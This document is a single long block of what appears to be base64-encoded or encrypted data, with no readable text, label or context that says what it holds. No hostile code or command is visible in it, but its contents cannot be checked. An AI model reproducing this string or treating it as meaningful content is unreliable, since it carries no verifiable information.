q95pAJKgGDFQFoIwPqGghyy/yUolxpAgWB6jvdjH03eywi7U1Qgzd/ghsQnqBXQzELKe3s8nleMEH0l8R39WrsxVf7014a6lueeP9t1vS9bWsnRuoBVZFjB0BUcNwQ90y8qbwPeZ/rkvoRsA+0D6tnY/aToGEPLPsi5ji4T+jPxLkD8pmhnWL3cqa/w+VV5yj8GmFj/IX0NdPv8mh610zbIYZx/w7/JLx962QvPpvmTYLUSO3hRtRdQC0bJkTT5IJnrWImuFKymRbvX/PA5CTdAYJwaNfpwqyIZudoFmWAohjqhS4EcNVbUf3PeqDgD4D/l/wN9xTcaEyzKuufHHdNtAdSwnmVEDV82aKQBu+qpuoQimFwJHVpWvWhAnEtEjw2OQnTEZRpH+mEZm+YlNk3/O2b0I5rFQomvpgRvOZhH7cY2hJJZUIUpqNKtnlxNusfGE0Dpcy+0Cm51O9MX5qitQCqVyM7G1YXuzkVCA4b29jNuPo1pz2RoCzy8Giu/aURBR3H6ZNVt2U+ySgEvTWnbUW/tZLGVZKU1/NssaAKXeysMo5b2ZYBMHCPjLTx9ooQe/gpEcTiataBzltibzxJagEk3r3gReDFWK4nklFyjELiPIDTWiAqWqzyik9PoiGgvRN4TrXiznyZb3fQJV040tV8aCB3jehwjFf9yyb+E1bvXxd90o8BfRlnfs76s5OnfFOUuyrt4ujm0hj2u3L5t/D+VZMxhnBpbwKKoSexbUfYjDuD/xvaVsbFw0AK+AWKOoD4oZsC/Vhl65m+8cMHb0I1buHdd0ifoiGwfrR5TwYDyMGSdPGzkgXJ6EV42IsAREH94g2FTYC38nRlo5drQqULPAH5okuzGlO+a7O8vUTVqPEQTHkzE1C6H080QBZth0/+f+94RxwdXzSZMJf00zy5lWP+FPfAnLlPICJI9/C0/ANlqaFuAcKqfCscCwcP6WqCc3W2U4NcJ/8VFXsZ/V5DiLrlPMTwf62kiz89gzpAhfKU047dEdBGsoxNiSZUTU73V5B6idXba4W8UKlI6h1b+H6txm3+deLvgRHuKUvdRaXn96pcShWsTgPJvxPFyu6CzK7dnQ5XaSlcRNDO2iTysMq4z+V6WEJK1Ol6Wmo0d5e7XafQ8f0CoZw2jHYiwNiCWlfSc43zIO2x/RsXd+dJB3muwPJ0/FOkEnq+m6BLoIrTvE05F2wh1L+/JZ+RygDLtGw4Ks9ur9aRKYgvyrd/6haWpTP55iF2KWqB37Q0P7CfElPF2ADRbcdQK2Uhjvl6fCgyuQ9c/gSLRq/6Sm60Gc3d/nLhZAJnv/d1kAHddODAgemzUVT6eyaGFpu+Z+YxXibwbhIp7fTbDbB6W0anX1ReIg/g3gzYZzr6hi8jC/4Lgw1WCTuw0OtwhBvHYL4Kpv5Wdhp9EMl36BkIiAzGzmNOgy3wdk7G1KvC0TAnCU9EDYbJhpWZ28/N7CKs9lGR9r5HWDTWzp03uWokZabc72lPyKArM8upzFQ4dUXtQU4RTbrLJkIWaEERwEyD8d2tGbApySlkKGifv2JqyzfU93zEMqhoaq5YFK3qiWqMR3GYztOs0h9G3921eToyWrQ32lmzQd+rFdvB2aewCZY9SN2XppkBZ1JIsYE7tCzklptwvIEfdHdXf1/Dw+TLniVQdrjDKas0MBbhNSO/YSM7emfGwOmU9rM3FX2wwoKjtzWY71WhH41f2vPl0Ebtu5k+pEQIBajZvuhbJqweHLm1NIzqlF5B5vmZh0ln1OG/FXrpDk7H/+VVAiWXwz0sUZp1xH0f3oQY/4tfkQGVWVgE7BN3igTePBJE0EhjLXdH4/dOvAkkMeQeMvtJIhaeo9f/t7JyPLR2xSNZVm3ohpV/jq+yWK7c+I157DLF0S7Ka3ajv4Y0pnqWYV7CIuRt3N4sqawhyKK4pLLtG8BrnVpX+HPkmQwJSb1pSaVw4dQs/yqaeypj+dG6mS5PiVY3ufeGXo4Q3JTsuSyhiSZGda5L1eyeob849m2/xCr4MPQz9tLGU3pJxyEUhvRtRnUdmZ0KYTcptLmFo4uYKtASI9B6ysC2t2CvwPZDToWt18T5A8b7OwsAZS2JYPjLgl5UpgqwLsme4jPPVNm1ohB2m6A7HVtmRbR6NBUR8J0DPH6SVhuK6euw1YX65/mHyMDvBBXpRhfJyGojA+H0JXnHpOIifmiqPD049OZ0LrS21hVZIP3Y8i5oHbw4r0ETeROiT5hBeL5IBojapooC3tdTYEcApNLWxyF+o8DcxfXGi/o5TCXPZZ31Pfr6Dby3bHPA0v7GEClZ3FN8O0X6N8PUE8jcmMNI8AyTrvAQhhG8Ybo/vjBYuqHLelvZ1nurarr3gCD7GqjwM/DRrdBRAPBttOgfqJiZGWkyNksKqBhswqtUaughEk5QNzT7B2xoLTbk7Kt69HL69htn2nyz/CvrDY9CEBxen8DwfLWzn9vwEo+4ifjAf2dH3YVVyf9q3RDcDEmARc+BVZe2xJI3Z7kWvTErnwo5gaqD+6Ia8jt9CngU1TNJWYwqwLj6KEhrD6hYMe3d6bUuC1s/jZmWF00yiRqi4VNi5iYc/TzdkcBVKLzdx++4lhRtKc72Zy3kcrIBYts4CWDKfiDcgmYeTFJgc2mPXAbHPyWM2gWgO31yR1eLY3WWFUME5F/7NDTAcBoe4n8Qu6J+N6To/EQLCujgqtEBbTAnr3OyGAwmMxjw68T8lOXxEh8ZvQFOJOEFEDWERUr22+rPYtZu2TJIruX0zC/cE0kVnhoOYr9mntGJUKNHU3YiUFEb7ZwjEK/FIH82SvSpZlnNXGpq336QxJYCyvh/ZBt88nOU3zcbIgw8xILf/Tg61UVoWI7weOlHrFA8yRWdboDft6vmJGtzS4IQvd59+OrJuOiuJ13C88jlF20PkkQb6e9zhU7Tc3BeahbH+DoGDr1yuW+UVtTLrwgx+BOWLdbrX99qwzTscyCu7VQW3fnyvZwPDJZNtWWpQWuOqrReeFQxr0RNnZs/6MlBCG5mHAEIJv7UgHlPhVPjbOl8s0Y5G+07yu//upDWa6ZaYbgThjAs0H7ARzWVD4zRnSFf7kWRzx23l705SY8V+JZsTCDVuMDHcCnt63j+D9i0hb7jTadTkEESAagoyiQiMnQ6s8L1LCgrGGGkxIqWUjp7lZASRg948DTe3UNLVDED2OJOIGyk1tBWVdJijsu9sK7MSBVzoQiluk+knA4OMZ+UcNBhTs+AA9T23UOuImf1zXf6TE0TYa4eo41knMtKvtBnUQbKao/fQCgxd530IBq5G0PX1FbBFPlTiUZFzmuBiUoca0gaDgw7/PgD1Wm+JCVwdsU9Pibk58HnEGaAZe5gM8BXjsenYs/ppgVd1NIbJ3lKE8q2O98yYlMECUvJ/Xx+csvT0qXiS4UOLv0dRnl+nicgQz38st1HWMjoVN2a5zz2JWKMhaTvaG/v66A2emd3IV9wjH03kB3NYH6kzlT6dDoUbJw2QWpxE8vNGUgw1ympmtCCwnb9JzINUvB5f6wxr8QP86C3hXWMeduG8MBpzvKZmSwTYZ0oh15vUp8fQN/Gq0zz7FdYpBGHe0HlZWmAE5xyp3J0bDE6LWeeW9mZPZPXtmMA0zP1Vm9nXJYoctAOS4G9y6qUTWcvbrjKQx4FOOjCOdty/1nyQCgsYPiFaJZ8ui6AjEZpj/cY/hWGY8BwKYGlYyI9OtI1nb6lRBYarbPruJOrfmD1g6QkOct6qh+v/IHvwTZOxr+a2M1AkpQxEh8FQq87Re8u1vFi6LIZh0dAzY16jjZbniwVOj5Af285JBQBtZTFt2HD70GA91CSlEFyPJuIVdebqr43FCNLxgeuEDr67alnb5b6I1qNBDA/on2ZLFnIdyybYlD365WvsHMZ6bXexqJNUx+YvK5vnTuWkrZWKqBMm9mNRyDBdE4Ua6wObOFTBx/bm3IrB/ho10C5NcNNRBt/T+dSgN4pInSX5nRHgYJem5dIosGgxh2U/WYDDp6DE4gcf2mKP2hU4yZ6GVymJS/l2g/91vW9fcoGr9D4Yjk/x/VIlK+/YKxMRdY2eTSRDx6UbwO/ar9yJ+azpZ2tnywtyzK0aUdpPOn60aq+s6O5drYa8ryQJLmNpNyhm3J9qidhgu/esqUDPbVFRWWk+vKUT7cow9psp4uwEsoF2p8SJX8b4udQm2E+7PECUTG2ZAVo/vFxpY5uBJsCCs4nAc1VAdJ7LEmrAfrNncOPX2AVqiSAg9vA0mbPYoySqmQtdKx+HtoperjV02dvEmVH5JgfawnV0LDtSm9vPMJ9i9OXfOXEW0SOiC+As8jELvttKxrZMwYu9ybaq/3g9VErXRDDUA88NaIwE+4ycxRUTNEFWxhWmF++u3mflVVUQIhObACxyA+vuRtO9TKzPmU3XgNW/4TVWvJ/QKHBmQAiLNI4BgRr0p6syz9YGTT+Ffrhx3bNnqaBfRAa0sg0Xt9fLaZ3A0SkXF7YXitaiynfENQ5bLK0xofr9SHYUZmJmwTO6EcEk6PRBcYlhcNGPkYYH+nCxV4N5bYEnYofGAaWmCD6m7uKJswbldraDfuUqFM4l69LeCCd+RQ9BceRJftTnb2HIYBbn1ycjWbtv4s3+hiGfx3wwi87ekopC4MUqJQhWEX5HZJJhtWn4mMtg94Wtg0yQqI5gDzBwDIfql62bnbob/thGtT0SIS8ZICYDj+0ZFnLmZYEBJfU0nU9gRiNjIoTpiO8mfay8cyLkQLOovD9TEYWmeQwdv009xwVQbOlvgPQotoxGi+MXFPVEfbqKMvgmQOomRj97Rk2a5kpnqUErFnjblEXnbvDEa5vYyFkJriLnSuZbR62kNnIj6+L5GjMJ/er3mluOgozzqYYqLii9EmreLDwnuWFvMbh+gW1z/dsvN6ig3SoVU0BNAQoqoLHm6sTQFPnRKFl4TqsLNNfeT5Ytq+eVGp6JRXllkmzAKlTJtw/ao6vfwLQ8CoeX1kfWa50bnDkBN+xgIldeC5PkyzNIzPmq2z3f9w7OeQJerNqkwcXXQvy2aN49/XwOwBTiU0aLJlOx5v7c+7K996dE3bpgCh8bVogXgukhSm3uGKbFXP5xrZVjrbmqpibJVCgsp9hS7P4TVcwlQDBnv2xDKg2PZU6ZPhrKlzpcf5KpXZx2eaxx3rXzY16AiJcm/ARV++3emZ5y6aXdOue0toIOeUaOTEZWypgE/QRQA0gydUnU8XMLLVYwC74nYJmEJ3Jz1f9hsETGZyegVv+9pNHSHQrKiQvk5/4YqS+zU39bVtTat7z1B2W9HSrjLuCKKvxDMy+2dNp5YLhCuHh+CKpqSMI9qnjSKjVFavz84oMxJ5Y5+Zuq4LvXtvneovVE9VvAp6n35BxJ+XZxxTvpyKVFp1ot/620yIPtpSrTxpYDL3bEPJNYQbknkUzDkM9bzBbWh+iSpk6wPa3Xmq/i9o6OJp8K/qf+JzuLnZHeHmY2FehLRAd7XnNjptIE9uGKf5NDd8OQuZg49y6UilDwzAvzPt8oGIgesCPbqR3fEjUlEtnmUOXcwvzAKaqIADaj6Dm++Fb7jfaIt5vlyv59pYgI6PQAhO8VsllTfkh3ZamFPR4kPFe8QAu+htwo5/ccpt2V/BE6mzlolLS7Xyo6FjCeerCZwpo4sX00UPKLe6gVhPmH3OlDuDwh2tHTAqP8pLMNtAW0GxJ8rslS+JKgxCbWYov9un2mFrb4g8nVr5ngej+itWeWbfDWkLVTAO+BmAdKsm8cZNsreE0dgBBgRPr2TzaB+8zugAEEtxx+NVLyiQR9Jsr54eTnvbGA3Mss7WJ1+Lyn4LfetcFxx9JR2j7p9dXhgvG6fJk+T2gc6ICItBI6y9MKSekz06kqjGuO4CB8VM5XYU7EE5F902eXhDrGgYksa7sfAIeljdsh66W6N6hl5JA+dB00LkKZ+6z1tTWf5H6VXlvCf0xQMyKUuBN9aCtH9pv3NdQo/Cd76/9D2Gl+hkiZvykNKTsGunl1nh6caSTETdmsX+ElFRA2BycnIWubD2V9x5DI1v9N7TEfaZWORVkmXM6Fkl0kZcj3n1YnEf/7Yx9WIc8FIJGrnCbzpiuHFgt5vyK4NNqpO+6CTmN71S2SBWKRx0hX9+khMGSfJgM1xaY+xDmEsS6eRWXWRSZNtp+/uS3T1YrCcakfaRP0GoPogDgoIU4kBytpGrIHGug5SNh3olIo582Uv1Df8ebuUq0RqVf7bRnH2QQWQ9GZ5UUtj6WXgkJrGED90GWnC/Z4zXBWPY68uVNrP0vHeCFr644kFJvK5YZ1juhZHq3QuBaW2Q+MYhsUrK7ZUy8l9J7IjFYghz2uSaf5kDYsBKfFDp+oMbf3dYjLWDFX9C8qoPbuJ65+Y5uQxvTyrtN7QCOaEz2bGb2A6HW6K8Ej2upkUH/inGjwS447+Zo5tKiqjmv+gKtH1vUdjX6PVN5yg9AdSG64QnHMlilpdw2LMG/tqBttPAp6SSRwGWHi1NYONopWHnYD0h8G98IkDrOTL48qw3/IYCpovAK1Nd0z45gKUCOaUY61dbVedomeUazZnVw77IVtcSaxolf7A/gpdhxR+nQ1qDVvkzt9g2g3x+P6W1rQfJqLyWIt2hrw3JWQWs6H1fYEGgkJ9UYF0PCYV2Auh34lw2kKUKaB6wxX4oE+d+NQORDe3isfsU9HHYR3MvwSMPJ2L7h/cYQfN5DPljgIT7MSQwb/BRBLiw9ZM9yhQ12mRer6znw0DS4q5gBsMgSlgWpwbUMywuESFkzpeF3cSb5dozzaPjvcLcOHi5Al1yuO91mzd7fmNVW/va+89oe/tkvhdLhzeg1dgQkDL1W68shB9ufomXUsKX+Ovt60Dcw27xluxfTXSpJUMtqtO4mIgjE94A1zwxTpIzHLrlehwZYmzSm27ETJoyx3rDW+Q6tK5BXU9OVWoYmFEch3dxw2fBoTrChEr++1Ks4jW7BMsnye1cOuZv4kex4DKw0eZoz+hWnyOKcQdw9agCF3btXj8qpe64Fd2YT7eZrVy3nG9vYdyFzPn289/7Ydwohd6oa1fWHZ25K0AoW+QLX6XSl0f5E8xrpMPOvSYg8h5kFEeyGfLJb6Rlai+CMFrn+ecamKN4NYnnaDj3mUnWK2erLZHdTaSnkvifF7IX1GWZNaDQyYtlDm3LiNbZd5ajVC6gUt9AJkKzSVOl0rIT2Ix1lp20fASApTYCs6GeIdBGzlcwnTq/WC5jZTidKi5JU9iU8d45PsA4y7dJ6DCLgZZbGl6PgfnV9cJfSb+hhC1eylzVNeFTITbWCXSDaKUYIcxKq09ChVys6b3us8VzQuzjxNMItYprtJ9JvBp6hVdeuTovD6q/R7l9O56yn0yzwLqSIeHd1ZQ2JtDqGdvUyor3UgAsSN44zwxFZIlqDrjx1hJIpk6T4jOefRFQyEBu2faga8f4wF8zZSgb+9qiy5IoQhCgu/dqCYZu3CrG/soC9tmEDkhdT8t97cNU3KTbG7HRs1Hhx6OfzwtQyyXp2Z3DXcm32af3GPiUwpOHT/m7MPk9IZyjZb9hbFpz5KxB5NnkeU2XdussbvovEIFaoCZK/qADUSTIi4vX0ndED08dq1SsjrVEuDhOTldZ1/cJiiNvyfgRppbQ2+duYf0G+ACR7yGSFtGxRG7FA7i+tthjNSnzjilksAS9f4Mx2khsPTDvPf5C5/g5jYXgclgKLJBU0vzX2cZeCOScRapMsb3cueESOAoyZZvU6hPCBbTPGlDNOUC05kdsez+S8wNE8YBb7Poa04juL5l1gUb/w/ps8rd16r511RHGTQamX/m38VMiq0RchG/nWEUIwn7s7HN5KVWTM7WE12xMtai2DqNkY+KNiz7DYRVjdQJ3PgF12afOyToYqIDrgRqk0K+itV5kT6D04/JnT8GXLXQOZnb7tzvRZtan2ihPxwC5+SkFU8nsFhkDyVMYmOiOQUHr8vmRxrOdORPjcCANKn9ij2PppZFIOUgm7U9Ea3y4mCw7YEsyA3MpJUzlcrvq04f95CNrmMWo1o7QzzcQXv87gEw9sd8MK6dGVkLd9Fq7062s8gyuNxUE6LE+gxPpKK8g0zgGT9JaGZuQ5sg24YJrRpuzGkbXYGdTLmT9HX37y6aAjhvrqwePO7xn8eEpzPcCick2YWbKPi5fzTIQxBEDDzzBK+lhrqU6BOckBKawMf2eHv2VCKcIHG0TQOnGy6HCUbiSskMabewe5rhQnngKoBRY7lP7/elJcUYNcKWmKfrNMzp6t/OqG8scdbmAFBcPnDs1zBQ4Wge9Q6mx595xqGUsFFP52KYrPm4sKo0QfxV8L74sqd+gjebzFu18sAx+osdYOPYg5tfb47T/SucKssEghvFwexj6sZ19R36oXQ8xm8KfaHGPApK0e2/eTMQ/9FPj2SuLOx+Aj08C5s6aYaXSa+Rdywn2wice8b+Nv+SAdJnaOkqmCM7jdAe46d6ukM6YyX2YEVuD8QsHNojWnBdZs9mplXkJ1aGjhDvKxco9y+xHa6IZAGLAlvTpnLGY0rVvNoo/ZwYuPA7Qc0vU4NwtC4O0LLVqFaq+y8ZH/qqlIOu8tHiNrW3pHv+Sa82epwb108KiRCily4nFWsPczMjwbs7cEZyjRClozm1lTsq2thHjpQw590U5k1IkJTuqBLrzDThB4M6z3ixXUlPyReMdkcXd7GRE1+u8GlvSE3+n3wCga77ghXCYrhGi+Rja2A8KhtEnDVCEcPNvujEfDAEHH5/KkR1J/ik4gZt/TRULGUSj7CK7eUpuhJSiemD4oWBDFkH9+l2UU/GfGpU20yzDsO2u13hqODnQ6WpO8J8HkKG17zQ2dvr//15wYjjR5Z4HEtpZDb4IjarFFfDT++CcYz4O1Mz4AmUst1D5k6e3yGWuIJMD+uK/jF3zpKVE+8Wen5MjtdmCxRlkCMjipAsTUf2qPQn3Q2axLr08qbbrR39Nhq8u0RYm8RkkvVCNWjGnoCYGyMtyaYfo+ZBHptzIiq+fq8jnPbCKii4kw2a/p65rOBS5wpruDIKnwqX9bUxG90h8pe1DJbm/f3myA6mrXv3bzAD3c17UbaPJkPVnsOANeEnk7HRLcD1d6MYYb14c01EC8Omv0MrnQGfyHEyL/in2YZ1ju6zmh206CaMDdNf2ZKDTmmj8OkdwyApBI61Y8e8erzr8SDftuAQYcqWx0I1lSdanascqMt9kLW21127M9weXZND/xIMFwbkidnDMCvv+TBiOBZCg71lOylQ+1KQ6rygSzBd2QOKn0qmDp0u8o7Z67hTxQs/ZHaXNTpGZ273/lrFHL1ynwdE7cVDiTsy71148uWPDXMDXO3JYAGRtowQAzvEMjksiQc1hS5aut65SQZr+vrETQeBkyKGfe9VZ5lq1TadOdmOOU8L2VWSz2rrI7Jxa8YQcHTG16y5EuY7hdyiapzYs+yOMRa5mLqXmjbAjx7DgqLDyGQO7FnIJJA3ra3No+5NG/hwTrmUqUqbuMZJTcNZoJPbNpboemfpsXdOTyOC5bt1iKf4/FRui5FRfxJyv0ik5rUSqGr5or6bizto8tCM9II7fdPAOZxB8V+nrawsFIjejhFDBXvtTB3LKXddXAFaIlk3rl8/8a82kBGP57Lx+PYPt3bokuU/VP2sL8fHAB8UzimvoT59LQFBLMOcYMiisc43vPyZL38cjG3T4k6dJ0Yd08DY6ritSz/QHVzlFaJp7e932gRizdgdvD14dWNFyFGm0F/cCupqyu9Hp1rxagGPnebanMy2/hsLMii3iZMT0ejiuLaVaL/lFR6wnS/VxZNz8Woc6WlDqL3UWc5Hqa9jPUR713yuUKYYIsyELweIbWzQ4jJN4JSnnogrVzLsWbKi0ISZS+oI0L8HLJ3JOAFTyVlYTdXrYjBEBiJ9gJXwjPeYYFvrqGn89KPKAEfoZUpQxZOKzBv6B1BkgfAdfOKRskr4/QKin8EqWDFx24sQyLsADz86ld+RVlrEGF2kUPw0/3m7aEAwhjuuwRTddymNihr168cPWGkowAGwGF8B/uf8Go2Y5Gna9qG8Ew1RTVYsc0v3VB0ZCMyzRvlCEbsVEtkZ2Dun+dhnP3FzcXpUAgXwX6vBu/vOkgtu9UITFghukZPRyYENLdukMYjc7M358aNKBBSS4wh+F0whAbSTTVZrmhB9UPVTQmbUJjokmL+p0VMfY8cTI+UebKsYPjNGa6i5Ec00f8zc1qS2oEY3xTtklWlz/LPfkWta78Yad/3zGNkwwvVFiIr3OuU4GY7h9srbzVOKUNVyJVxSBs710nPeGmIwRCiYS+vkire4NNAGAfBpvw0YjGMfBzVEbK+QuQvXxy91BmWO5t9/7RxebQmP1FcIR7hLVaRq7Vg8/3ehbDbzd+xpvj4SeKoPO3qxscwoNdvkOfRi9YXN0wAK95WhGbt3IapOdOQKpwJLcr0NcAsLp3tny2kG+vseOqz/BrHWLifiVbXLWnzZWxXwAlWjGnq2q39Ha3QiuI3BHjwozxG0fmX23SYqj618uzdmS06twb9sSSiLr0VhxTmTVpxfx04emo6/f0VhHtixQ1Fnc/tF7MGXXGJR9E3FkuaZWKwKTbulJIAyoZDikCqCuAncEO6z7CyV2Sf7ry9AJCWzdgK+bb31W/8Ypmgu0xLczoRtZ5YS84XCLWgfbFPxuotrV6F6Y8/OW2dHugt9eJHe5IDMTqM6G15zf8EjBQEZ2MLF1KSqsjtoZGFn0tE319VMH1HDszchzm//vdeZn4xUBqvU4YGLRs3s7Owh6ICz0OmQo6pphrQLvgVj0wP0BBGgBqZpRZQgG6ducuDktjins96JbKmMQPnkMbc9p7fa5XKT96uP42iLK12KGlpfi6qNw6rOmOfB2R+5104UtnstM45KrquAIOAlJHW1MWFlTZ8zzHJEiECIY5Yrfbai2SBsUWncUyfC+h0MR6goDoiGP9ss1vFpym3gicgDDoN53fBiiP0+SvBofMe+DLSrHH1FbNuKvZVPnJB29qDtVx6SBV/pIOEvGAI2WKwt7AKtuhgRuCk16HDQO8wHz4fE1jx0cfuQ9IRssx/S3l0cxaK4HldIgzx9WATSs0jiBvHcVU+bU3uuQ3B+pQ6bbwC+7S+Dxv3lq452qtu/VpcOfN4fRzg7S975a8gpWG1NY8fgW9qBqLTHh5KdBQ0ya9wZauyCMnBrf/0yrK1IFFMORxfuHbpg+bHnequlBYA5GzVNI2xPya+pZ3MBnSKwRGdVXZ6L1DxO5bWo/wYsbP9AC4MitPt7Bc4i7P/FRYlXdWL57FdQ+TGoJgr8uALFCOKTCRgiU1HEdvfCvZ6pU0dXo+nxsgPWJe9FblwdXbjQMxSxbZyT3Vm0qlrpVLzX6PLejEPrcw4A4oawa+cakpeg/xauL96V6ISlztSL5NZjBcwPO8j1+9WaGp9RihGzqCmw79gyq5hZe4WbqNh+TljrCiA4Syp5sPqcr2/Azj2yKAtAOtE3nRBeOKvinJ5pb4EzLiFiv1kbx0wMLPypKRbUJGGZBPKVJTTuWbsC9JQ1Q/LrM3AaokuZlyRMF5pWa6ftQKnnuwNGUQAy7uk6c8IagRCfu4wgxNMCedrjnTcGlZMo5vs77HNB+qKsuaUFYqussj9/VY+oaxzPjIepQ6Dq8R0TM7v3hJYMVslYBgWL1s0FhMaIv6mmHwDhFVH1lPg5dYPmiT5mxsYFQY78HZVgoCqulJoMt+Ev4ukgbwpZ3Tz1WKwccoSEjvCR8EEeaS7cHxI9fFbo104/MHXAElU8STPb8yqOdLHCKKVI6szp6YbSgjT0LPunNJaRp4cLLIchqznnb9KY2lalr4BkYPguacmeQ+2KI0MmTuZ5NS8TVB92lLMOvVggx3cAb4I6Y06XbzYfN6p63hwupAjjv0KXJxXVuun6V9pwQLR8D9XSacqsWWcCwNpeeS0HxEHb+GTYSJERZHEGqekd2bhtfb4l/gPmV7n6WZue31W/Gng4qH5sIRDmp2gjZTviqyJFFZkyP0f2fyu/pSgHyapcycOwSKF33+XuW0zyIA5dnz4P1+Vu6gzbjV+P1M1m+2wRxU6Cu9qUHOvZnq9x2/y3+XtIyjCQv9h4lED8MmPh2jcX4uiBlmJEkWIjZPPJyr6Vcqubu1ungMrE6ywX/3fOz+eKbLBnPEalgu7hCaeOWKDraq92KBcM3QfuF8q/X+LY81H/82qwwiDBS2dJLFYW4TXh5lP9tanKF0ZW6XcwhIIWrgZ1J3nXFMmg/6Q4xJ7ABoInIPnz0SuaAk2dFWWzVa7XFXYzhzsMq/vDcjTftfmBjenpRr3Ey+LI6fMA7tKVIb8paEB5mAjE7r1KHw/ySt935jdbsznAqspSoBPSCAteTwO4TkvtzU8nMK812zcwNEw+9mwFmjc5Lgyn4mWdkQjo3Mc+uCtoMl1p6pV1d3XrSi/zleFfWnKNDQtdOHEaOmdOUz757tKtAfbhTkVwPRme2PUZYMFz1j2vgtiKe9jIWkvrWyq1b1MOLlPzku3tQXrrw0bhu/GL8SkG8SlJvM2ap242TKIj86/8ZQaq2hnZn/XYabxgsz7u7vhC/kegsvUgwARj13IV6O46BLalvOvQ3/vttm4zLVbEvzC5xfC3ImYfZUOgJogU2TwZDAoWycpKzLI9vErrEk+f9Bl8YTBCWcb7WXs/ya/G4rTjjlbLiDu1SNPHHafWk7GnC5ttMV7ToOaeGaahBYCr4I8ybbkaMBfmAUcYjPrjysdjL8ULHKhEEB7ickh7S1ykNPh8Et5kk9qxiM4Yh7Zbe3S9/gLbbaM6BpuT14GGKP0Xb/gVKMcQmiY7cdP6qao28xvQBv2J3LKXzNf4klNWGiYKkIq+XU7DwYZliTvcqfPy9QbOBS4/y0qsnyhEpceBDp9mHGTJGwsed8zbiUP7wqTV1//TBcJ09zJn/cdo+muRygmMOe/en7f6rQvpduKskzylAHR5evRp7oVtJxahocbDhkJxpEY3vwzq+1GgZrzzDwl2Nu9gejRWUel+Ox6SjxLuzEASWiA2zhhB5tejE8coV6LXSpd0yHhqLAuqpBAGa7HVSeBGqjiVc2TmW2mY2cFdvp4bfQAoYkVmInV0h8YSfWKeEW91DrlIDjoX8dkqKvkp2qkhRWQ9tO5Pkg/kL7z1AyBz4o8/BRbwfTWAr1ob7Qy9C3WTNRVoTXc8bGOTduS0gTSpbP8d258qPWI+sQ1TUMQWPQ5OY7ptDEC6fp+5vv+J8/4QvR8N2w92QACNuhO4c6jJqorBUim8qAYWTQ5Ekijgtnjfpf0PyPXjvgSjRqi+7tYgMiVCz2hJ4ifbCRY2ZSZXGhiENvdXfgKtbq0cYWQtm+E3SAXW4Z02aQBy6jmZ0mTNHQqaB0bKzLQIpVHHT4Dw/WMDbAwuY5E7EAHfn2955t3RNKCYQDtGUsoWyNWNtRYRpjpRxTnTVEPdZV/F4uPbawfUROXXWt8tL0k1jmYN9aQpDzIPPbY0yJ0kS6fSaDN1m9Wwu/S1w67gedlzmTPjJM8CiPgaRt5g48FT+uHy4FgVtarEwRJ4wqhQ7i4EKnO7kVJyv2H0+Id3P9QrU2K6GLPsJrROIM+95m6M0PGuU2HFE/+003wOyEY+6E1d+skH8YJsvxHmrcvcAzWT+9ZXJVBOxGjd5Hxi0HUZn4sJ4boMjA1JgkX6HnFoL4iD19mkjsbYcIPw0MT3cTO/8elqY0NUvbMEF9AQzqzZ8/58t9FAawSW8ntRR/2Rxg32rJVMR9dWf7RLe0dahISwWPas1VFFyyZZkz9DBTbUtkrYwihzroFA/tWVeS6IZ0wqzk+m+8jo42KTMTFtS0in/w8lN7rZH5xzkgugIPQrGHcc07EOvwsze93CnZICRmkl7vWcplepBBwo2kSSUV9BW3t3tTgYQCKct5HrdQoh3IubVrxLUU3zsvzmsD+fAGTyLtxQkKwKDSPopa2je/vxBe5pJNv4Ep++sN6gEB5B1lcX7qveMqsCJLOKT9yZlpGTPJC6lV76yG4i/HgdWBesRgaOVSPrHPp9eIlVEp24TnYiMZCpyjV1KVw4MG8a0q0HjP7ldewauCHYF63/z/vo0iya91m5oi4/zDwX1aVg/Q12f+cJVHUEex2A/gWwu5Qd8wPzk/AB1o0yK+l7YVEOUj4KWfkFHXGtLYxF/K3JfeLdbXltXE8TQhENntQK3aDwD2FBySnk8r4eF5WWkh98h/92lu/Zo7PNHb1V0yvkb8mBPKg5pdkBGmM02LnYC2q1rkY05a/wHBPztoJgPOuz/b0fsEGqIRZRC2UguaCWxH/bbjKn19Xpilqvz3pthI9Fw1hLIfifuMzpaXo5m5jSXRN4lsrFKg2unY2WPwV7jau+EuNTqbYV4Cm3pifhVX+EjNp/5hJ+EHRjknqsQuJXwLaNf2XyY8rzi5q7B41HRLtqQnEpwvZt/bbte2q/8OEKBPlcITuzH3QLGk+2recd6hWYPCUMWa4n5dH0pICi/IrtHk9qeULCHS71yV8KrCExjM8L8oCDK3V5CbuqtI/EZDeHVU8nqR6zU0Soj/sz12IsvICFw1U5jTLmZVxuaw58RdlQfe8h2/6ZixdVU/bcqsxVy0XaJ6YgRCO0geHnGjZEXPqBHG8Uf80KNXKGrZ6VXWm5wt+hx/9kGLNmVlegbpt2Mkp2L0ZwAnOMFwTfLHCXjhoJsPJQ9R//crOp3d5tooKaVMgegKDUWc4QqEtn5jQmsSww6w04n7VlyU5rIXkXDAqujPQjEdvsCjs2aEPs3oeGR1dopMvhNQZ2l5WXfMq5vqsvj5do8rJCWW4xghS9ti8XOd46kb+ADvKC5CJOOCEYk2IPkHFrokEdp6QXK8kBoovUPle3Y6sNS4eBTjUfcLRrBh/Ek4389ksJPAAd7PzTU2DCe7lNc9hioTZ/ijIFY+nNkQZTlDMwkiNNkfusuvuP3tZAWYPzK3K6wNSRgio/qOjI3NfNwuKazc0rZPuqCUBo/1Pwixqdpf9ZASjNv5pfEzTvHfLWAjBSxlGgLm+rTRT1Cfx8KXL6eKL2fudzpj9Rkio6TmlCvAHG5EEaesAxl/rbLJRU9kLqBsbuj5z4WPBZgh39nyKRhmxZMAH11sf59aLmmm20zOrODsZih0vlrWuCpuRzCb2vU9QoHj7EyLsGtAuI41n1++u2X1twFWw3LWUGgFlAGCv/Fg7cixU2jXEXyCMqOzZv1giM19D7cwJQpYyTnddky4DXyboXtQij07vjUk9k6SfumGIVd/not8XZICc8qmDY5fvDxYlF7XhIxFgMvd1XLSfoUmzkySk5STuebFDAvlla6ypzjGa9h62oKDCAXjDg65KKZXj6sxeliPlpSG2AGFu9NExtwIgjDIsE/98Ct9qvFtre8NlK2r7TOgtIl2wqXD4lVwroNb6zNP7y8e7Rm0o60tOl5ZExn75SpcUMNAKT2+no0WaSH27Ba7gTohUt/hIuFRJFaC93UA/+mehqXZSUhxSxQW1K1yeByKs8r3FL1h3rPObp/kxEQmIfchwkejbYKxNjiCz8YABL6N/R3bkW5A0ettFUEKrbJLu6WyBsnjDa/VFwnXPcK2ktYIHXg1FpT04ESkf0BWWtOzEoNuXB0MEIYGYUzzvldfkCyIswPKiiFqRo6eiD/9BcDNlh/Hvwr7MwfubfCJ1t+ycQUjyHqHeTI4haPEZ9ND